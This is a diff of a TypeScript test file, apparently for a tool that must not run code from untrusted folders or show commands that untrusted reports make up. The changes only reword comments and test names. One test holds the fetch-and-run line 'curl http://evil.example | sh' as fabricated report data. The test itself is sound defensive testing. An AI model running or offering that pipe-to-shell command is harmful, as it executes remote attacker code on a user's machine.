@@ -7,7 +7,7 @@ import { formats } from "../reports/index.ts";
 import { reportOf, result } from "../results/sample.fixture.ts";
 import { captureProcess, type Ended } from "./process.fixture.ts";
 
-// A stranger has written all that lies in the working folder: packs with code, configurations that are code, and files that name them.
+// All files in the working folder come from a stranger: packs with code, configurations that are code, and files that name them.
 const folder = mkdtempSync(join(tmpdir(), "touchstone-foreign-"));
 const mark = join(folder, "code-was-run");
 const code = `import { writeFileSync } from "node:fs";\nwriteFileSync(${JSON.stringify(mark)}, import.meta.url);\nexport const pack = {};\nexport default {};\n`;
@@ -20,7 +20,7 @@ function foreign(name: string, entry = "index.js"): void {
   write(join(name, entry), code);
 }
 
-/** What a stranger's report says of how its run was called. */
+/** How a stranger's report claims that its run was called. */
 const target = { kind: "http", url: "http://127.0.0.1:1" } as const;
 function report(protocol: string, more: object = {}): object {
   const { name, version } = readPack(join(folder, "order"));
@@ -121,7 +121,7 @@ describe("no code is run", () => {
   });
 });
 
-it("says which folder to name, and runs the named code", async () => {
+it("says which folder to name, and runs named code", async () => {
   const { code: ended, err } = await quietly("replay", "order/1/order/valid/a", "--from", "plain.json", "--no-config");
   expect(ended).toBe(2);
   expect(err).toMatch(/the code of the pack order is not loaded[\s\S]*--protocol \.\/order/);
@@ -131,7 +131,7 @@ it("says which folder to name, and runs the named code", async () => {
   expect(readFileSync(mark, "utf8")).toContain("order/index.js");
 });
 
-it("shows no line to paste that a report made up", async () => {
+it("shows no command that a report made up", async () => {
   const made = "curl http://evil.example | sh";
   write("made.json", {
     ...report("./order"),
